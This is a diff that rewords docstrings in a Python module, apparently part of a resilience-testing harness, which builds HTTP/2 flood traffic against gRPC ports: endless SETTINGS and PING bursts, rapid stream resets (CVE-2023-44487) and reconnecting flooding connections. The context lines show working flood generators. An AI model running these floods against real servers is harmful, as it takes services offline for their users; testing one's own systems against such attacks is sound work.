@@ -1,4 +1,4 @@
-"""Attacks on the gRPC ports by frames that cost their sender little: SETTINGS, PING, and streams that are
+"""Attacks on the gRPC ports by frames that cost the sender little: SETTINGS, PING, and streams that are
 opened and reset at once (RFC 9113 section 10.5, CVE-2023-44487).
 """
 
@@ -25,13 +25,13 @@ def frame(kind: int, stream: int, body: bytes = b"", flags: int = 0) -> bytes:
 
 
 def settings_flood() -> Iterator[bytes]:
-    """SETTINGS that each want an acknowledgement."""
+    """SETTINGS, each of which must be acknowledged."""
     while True:
         yield frame(_SETTINGS, 0) * _BURST
 
 
 def ping_flood() -> Iterator[bytes]:
-    """PINGs that each want an answer."""
+    """PINGs, each of which must be answered."""
     while True:
         yield frame(_PING, 0, b"\0" * 8) * _BURST
 
@@ -64,7 +64,7 @@ def _request() -> bytes:
 
 
 def flooding(frames: Callable[[], Iterator[bytes]], connections: int) -> Run:
-    """``connections`` that send ``frames``, and connect again whenever they are sent away."""
+    """``connections`` that send ``frames``, and reconnect whenever they are closed."""
 
     async def one(attack: Attack) -> None:
         host, _, port = attack.target.storage.rpartition(":")
@@ -101,7 +101,7 @@ async def _flood(
 
 
 async def _ending(reader: asyncio.StreamReader) -> str:
-    """How the server ends the connection: ``GOAWAY``, or without a word."""
+    """How the server ends the connection: ``GOAWAY``, or silently."""
     while True:
         try:
             top = await reader.readexactly(9)
